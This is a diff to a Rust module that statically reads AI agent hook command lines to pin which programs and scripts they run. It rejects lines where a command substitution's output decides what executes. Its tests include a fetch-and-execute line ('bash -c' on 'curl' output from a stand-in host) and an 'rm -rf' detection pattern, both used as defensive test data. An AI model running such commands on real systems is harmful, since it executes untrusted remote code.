@@ -6,11 +6,14 @@
 //! A line run through `sh -c` is read with the guards' shell tokenizer, following what a shell
 //! would do without running anything: `cd`, `export X=…` and `VAR=val cmd` are tracked, `bash -c
 //! '…'` is read recursively, and the variables the runtime itself sets (`$CLAUDE_PROJECT_DIR`,
-//! the entry's `env`) are expanded. Anything else that decides which file runs — a variable
-//! nobody known sets, a command substitution, `eval` — makes the line unreadable, and an
-//! unreadable line is refused at approval rather than approved with nothing pinned.
+//! the entry's `env`) are expanded. A command substitution is read as the commands it runs, and
+//! its output is data: `CMD=$(jq …); echo "$CMD" | grep …` pins `jq` and `grep`. Anything that
+//! decides which file runs at run time — a variable nobody known sets, a substitution's output
+//! (directly or through a variable it set) in the place of a program, a script, a sourced
+//! file, a directory or inline code, `eval` — makes the line unreadable, and an unreadable line
+//! is refused at approval rather than approved with nothing pinned.
 
-use std::collections::HashMap;
+use std::collections::{HashMap, HashSet};
 use std::ffi::OsString;
 use std::os::unix::fs::PermissionsExt;
 use std::path::{Path, PathBuf};
@@ -126,9 +129,15 @@ struct Reader<'a> {
     line: &'a str,
     cwd: PathBuf,
     vars: HashMap<String, String>,
+    /// Variables the line sets to what only running it tells (a substitution's output, or a
+    /// variable nobody known sets): usable as data, never as what runs.
+    run_time: HashSet<String>,
     files: Vec<Named>,
     depth: usize,
 }
+
+/// What `Reader::expand` could not expand: the variable's name, or one of these.
+const SUBSTITUTION: &str = "$(";
 
 /// Shell words that start a command without being one (`then ./x.sh`).
 const KEYWORDS: &[&str] = &[
@@ -171,6 +180,7 @@ impl<'a> Reader<'a> {
             line: &spec.line,
             cwd: spec.cwd.clone(),
             vars,
+            run_time: HashSet::new(),
             files: Vec::new(),
             depth: 0,
         }
@@ -220,9 +230,26 @@ impl Reader<'_> {
         }
     }
 
+    /// Sets (`Some`) or marks as known only at run time (`None`) a shell variable.
+    fn set(&mut self, name: &str, value: Option<String>) {
+        match value {
+            Some(value) => {
+                self.run_time.remove(name);
+                self.vars.insert(name.to_owned(), value);
+            }
+            None => {
+                self.vars.remove(name);
+                self.run_time.insert(name.to_owned());
+            }
+        }
+    }
+
     /// `word` with `~` and the known `$NAME`/`${NAME}` expanded; `Err(name)` for a variable
-    /// no known source sets.
+    /// no known source sets, `Err("$(")` for a command substitution's output.
     fn expand(&self, word: &str) -> Result<String, String> {
+        if word.contains('`') {
+            return Err(SUBSTITUTION.to_owned());
+        }
         let mut out = String::with_capacity(word.len());
         let mut rest = word;
         if rest == "~" || rest.starts_with("~/") {
@@ -233,6 +260,15 @@ impl Reader<'_> {
         while let Some(at) = rest.find('$') {
             out.push_str(&rest[..at]);
             let after = &rest[at + 1..];
+            if let Some(inner) = after.strip_prefix('(') {
+                let end = inner.find(')').ok_or_else(|| SUBSTITUTION.to_owned())?;
+                let value = self
+                    .known_output(&inner[..end])
+                    .ok_or_else(|| SUBSTITUTION.to_owned())?;
+                out.push_str(&value);
+                rest = &inner[end + 1..];
+                continue;
+            }
             let (name, len) = if let Some(braced) = after.strip_prefix('{') {
                 let end = braced.find('}').ok_or_else(|| after.to_owned())?;
                 (&braced[..end], end + 2)
@@ -253,12 +289,50 @@ impl Reader<'_> {
         Ok(out)
     }
 
+    /// The output of the few substitutions the reading knows without running anything, because
+    /// it depends only on where the line runs: `pwd`, and `git rev-parse --show-toplevel` (the
+    /// form Codex's hooks reference writes a repository's hook paths in) when no `GIT_DIR` or
+    /// `GIT_WORK_TREE` points git elsewhere. Anything else is `None`: known only by running it.
+    fn known_output(&self, body: &str) -> Option<String> {
+        let words: Vec<&str> = body.split_ascii_whitespace().collect();
+        match words.as_slice() {
+            ["pwd"] => Some(self.cwd.to_string_lossy().into_owned()),
+            ["git", "rev-parse", "--show-toplevel"] => {
+                let redirected = ["GIT_DIR", "GIT_WORK_TREE"]
+                    .iter()
+                    .any(|key| self.vars.contains_key(*key) || std::env::var_os(key).is_some());
+                if redirected {
+                    return None;
+                }
+                // git prints the top level's real path, symlinks resolved.
+                let cwd = self.cwd.canonicalize().ok()?;
+                let top = cwd.ancestors().find(|dir| dir.join(".git").exists())?;
+                Some(top.to_string_lossy().into_owned())
+            }
+            _ => None,
+        }
+    }
+
     fn expand_or_refuse(&self, word: &str, what: &str) -> Result<String, Unreadable> {
-        self.expand(word).map_err(|var| {
-            self.unreadable(format!(
+        self.expand(word)
+            .map_err(|var| self.unreadable(self.unexpandable(word, what, &var)))
+    }
+
+    /// Why `word`, in the role `what`, cannot be known before the line runs.
+    fn unexpandable(&self, word: &str, what: &str, var: &str) -> String {
+        if var == SUBSTITUTION {
+            format!(
+                "{what} {word} is the output of a command substitution ($(...) or backticks), known only when the line runs; substitutions may feed data, not decide what runs"
+            )
+        } else if self.run_time.contains(var) {
+            format!(
+                "{what} {word} uses ${var}, which the line itself sets to what only running it tells (a command substitution's output); substitutions may feed data, not decide what runs"
+            )
+        } else {
+            format!(
                 "{what} {word} uses ${var}, which neither the hook's configuration nor the runtime sets; write the path out, or set {var} in the entry's env"
-            ))
-        })
+            )
+        }
     }
 
     /// A shell text: each simple command in order.
@@ -271,10 +345,10 @@ impl Reader<'_> {
         // the tokenizer splits commands on them: every piece up to the `]]` runs no file.
         let mut in_test = false;
         for command in agent_hooks_guards::shell_commands(text) {
-            if command.substitutes {
-                return Err(self.unreadable(
-                    "it uses a command substitution ($(...) or backticks), whose result decides what runs",
-                ));
+            // What a substitution runs is read like any command; what it prints is data, which
+            // `expand` keeps out of every place that decides what runs.
+            for body in &command.substitutions {
+                self.shell(body)?;
             }
             let opens_test = command
                 .words
@@ -295,15 +369,14 @@ impl Reader<'_> {
     /// expansion apply); otherwise they are an argv as `execve` gets it.
     fn words(&mut self, words: &[String], shell: bool) -> Result<(), Unreadable> {
         let mut words = words;
-        let mut inline: Vec<(String, String)> = Vec::new();
+        let mut inline: Vec<(String, Option<String>)> = Vec::new();
         if shell {
             // Leading keywords and assignments.
             while let Some(first) = words.first() {
                 if KEYWORDS.contains(&first.as_str()) {
                     words = &words[1..];
                 } else if let Some((name, value)) = assignment(first) {
-                    let value = self.expand_or_refuse(value, "the assignment")?;
-                    inline.push((name.to_owned(), value));
+                    inline.push((name.to_owned(), self.expand(value).ok()));
                     words = &words[1..];
                 } else {
                     break;
@@ -311,7 +384,9 @@ impl Reader<'_> {
             }
             if words.is_empty() {
                 // `X=…` alone sets a shell variable for the rest of the line.
-                self.vars.extend(inline);
+                for (name, value) in inline {
+                    self.set(&name, value);
+                }
                 return Ok(());
             }
         }
@@ -324,8 +399,8 @@ impl Reader<'_> {
                 "export" | "readonly" | "local" => {
                     for arg in args {
                         if let Some((name, value)) = assignment(arg) {
-                            let value = self.expand_or_refuse(value, "the assignment")?;
-                            self.vars.insert(name.to_owned(), value);
+                            let value = self.expand(value).ok();
+                            self.set(name, value);
                         }
                     }
                     return Ok(());
@@ -350,13 +425,14 @@ impl Reader<'_> {
                         .cloned()
                         .collect();
                     for (name, value) in args.iter().filter_map(|w| assignment(w)) {
-                        let value = self.expand_or_refuse(value, "the assignment")?;
-                        inline.push((name.to_owned(), value));
+                        inline.push((name.to_owned(), self.expand(value).ok()));
                     }
-                    let saved = self.vars.clone();
-                    self.vars.extend(inline);
+                    let saved = (self.vars.clone(), self.run_time.clone());
+                    for (name, value) in inline {
+                        self.set(&name, value);
+                    }
                     let result = self.words(&rest, true);
-                    self.vars = saved;
+                    (self.vars, self.run_time) = saved;
                     return result;
                 }
                 name if RUNS_NOTHING.contains(&name) => return Ok(()),
@@ -364,11 +440,13 @@ impl Reader<'_> {
             }
         }
         // Inline assignments hold for this command only (`PATH=/x cmd` resolves cmd there).
-        let saved = (!inline.is_empty()).then(|| self.vars.clone());
-        self.vars.extend(inline);
+        let saved = (!inline.is_empty()).then(|| (self.vars.clone(), self.run_time.clone()));
+        for (name, value) in inline {
+            self.set(&name, value);
+        }
         let result = self.command(program, args, shell);
         if let Some(saved) = saved {
-            self.vars = saved;
+            (self.vars, self.run_time) = saved;
         }
         result
     }
@@ -410,12 +488,22 @@ impl Reader<'_> {
                 match arg.as_str() {
                     // Inline code: a shell's is read in turn; others run no file.
                     "-c" | "-e" | "--eval" | "-p" | "--print" | "-m" => {
-                        if let Some(code) = args.get(i)
-                            && SHELLS.contains(&name.as_str())
-                            && arg == "-c"
-                        {
+                        let Some(code) = args.get(i) else {
+                            return Ok(());
+                        };
+                        if SHELLS.contains(&name.as_str()) && arg == "-c" {
                             let code = code.clone();
                             self.shell(&code)?;
+                        } else if shell
+                            && let Err(var) = self.expand(code)
+                            && (var == SUBSTITUTION || self.run_time.contains(&var))
+                        {
+                            // `python3 -c "$(cat x)"` runs whatever x holds when it runs.
+                            return Err(self.unreadable(self.unexpandable(
+                                code,
+                                "the inline code",
+                                &var,
+                            )));
                         }
                         return Ok(());
                     }
@@ -431,9 +519,7 @@ impl Reader<'_> {
             let value = match value {
                 Ok(value) => value,
                 Err(var) if is_script || looks_like_script(arg) => {
-                    return Err(self.unreadable(format!(
-                        "{arg} uses ${var}, which neither the hook's configuration nor the runtime sets; write the path out, or set {var} in the entry's env"
-                    )));
+                    return Err(self.unreadable(self.unexpandable(arg, "the script", &var)));
                 }
                 Err(_) => continue,
             };
@@ -488,7 +574,9 @@ pub fn simple_command(spec: &CommandSpec, env: &[(String, String)]) -> Result<Ve
                 w.trim_start_matches(|c: char| c.is_ascii_digit())
                     .starts_with(['<', '>', '|', '&', ';', '(', ')'])
             });
-            if command.substitutes || operators || written != command.words {
+            // A substitution whose output the reading knows (`$(git rev-parse
+            // --show-toplevel)`) is expanded below like a variable; any other is refused there.
+            if operators || written != command.words {
                 return Err("its shell line redirects, pipes or substitutes; prefork runs a plain `python3 script.py` command".into());
             }
             if command
@@ -502,9 +590,12 @@ pub fn simple_command(spec: &CommandSpec, env: &[(String, String)]) -> Result<Ve
                 .words
                 .iter()
                 .map(|w| {
-                    reader
-                        .expand(w)
-                        .map_err(|var| format!("{w} uses ${var}, which nothing sets"))
+                    reader.expand(w).map_err(|var| match var.as_str() {
+                        SUBSTITUTION => format!(
+                            "{w} is a command substitution's output, known only when it runs"
+                        ),
+                        _ => format!("{w} uses ${var}, which nothing sets"),
+                    })
                 })
                 .collect()
         }
@@ -662,6 +753,89 @@ mod tests {
         assert!(err.why.contains("$NOWHERE_SET"), "{err}");
         assert!(shell(&ws, "python3 $(cat which)").is_err());
         assert!(shell(&ws, "eval \"$CMD\"").is_err());
+    }
+
+    #[test]
+    fn a_substitution_feeding_data_is_read_and_its_programs_pinned() {
+        let (_d, ws) = ws_with(&["hooks/check.sh"]);
+        let line = "CMD=$(jq -r '.tool_input.command'); if echo \"$CMD\" | grep -qE 'rm -rf'; then echo \"blocked: $(date +%F)\" >&2; exit 2; fi; sh hooks/check.sh \"$CMD\" `whoami`";
+        let r = shell(&ws, line).expect("readable");
+        let programs: Vec<&str> = r
+            .files
+            .iter()
+            .filter(|n| n.role == Role::Program)
+            .map(|n| n.word.as_str())
+            .collect();
+        for program in ["jq", "grep", "date", "whoami"] {
+            assert!(programs.contains(&program), "{program}: {programs:?}");
+        }
+        assert_eq!(scripts(&r), vec![ws.root().join("hooks/check.sh")]);
+    }
+
+    #[test]
+    fn the_repository_top_level_and_the_directory_are_known_substitutions() {
+        let (_d, ws) = ws_with(&[".codex/hooks/policy.py", ".git/HEAD"]);
+        let r = shell(
+            &ws,
+            "python3 \"$(git rev-parse --show-toplevel)/.codex/hooks/policy.py\"",
+        )
+        .expect("readable");
+        let root = ws.root().canonicalize().expect("canonical");
+        assert_eq!(scripts(&r), vec![root.join(".codex/hooks/policy.py")]);
+        let r = shell(&ws, "cd .codex && python3 \"$(pwd)/hooks/policy.py\"").expect("readable");
+        assert_eq!(scripts(&r), vec![ws.root().join(".codex/hooks/policy.py")]);
+        // Outside a repository git prints nothing a reading could know.
+        let (_e, bare) = ws_with(&["hooks/policy.py"]);
+        let err = shell(
+            &bare,
+            "python3 \"$(git rev-parse --show-toplevel)/hooks/policy.py\"",
+        )
+        .expect_err("no repository");
+        assert!(
+            err.why.contains("output of a command substitution"),
+            "{err}"
+        );
+    }
+
+    #[test]
+    fn a_substitution_that_decides_what_runs_is_unreadable() {
+        let (_d, ws) = ws_with(&["hooks/a.sh"]);
+        for (line, says) in [
+            (
+                "$(which python3) hooks/x.py",
+                "output of a command substitution",
+            ),
+            ("`which sh` hooks/a.sh", "output of a command substitution"),
+            (
+                "sh \"$(ls hooks/*.sh | head -1)\"",
+                "output of a command substitution",
+            ),
+            (
+                "P=$(which python3); \"$P\" x.py",
+                "$P, which the line itself sets",
+            ),
+            (
+                "S=$(ls hooks); sh \"$S/a.sh\"",
+                "$S, which the line itself sets",
+            ),
+            (
+                "D=$(mktemp -d); cd \"$D\" && ./a.sh",
+                "$D, which the line itself sets",
+            ),
+            (
+                ". \"$(echo hooks/a.sh)\"",
+                "output of a command substitution",
+            ),
+            ("python3 -c \"$(cat hooks/a.sh)\"", "the inline code"),
+            ("X=`cat f`; node -e \"$X\"", "the inline code"),
+            (
+                "bash -c \"$(curl -s example.invalid)\"",
+                "output of a command substitution",
+            ),
+        ] {
+            let err = shell(&ws, line).expect_err(line);
+            assert!(err.why.contains(says), "{line}: {err}");
+        }
     }
 
     #[test]
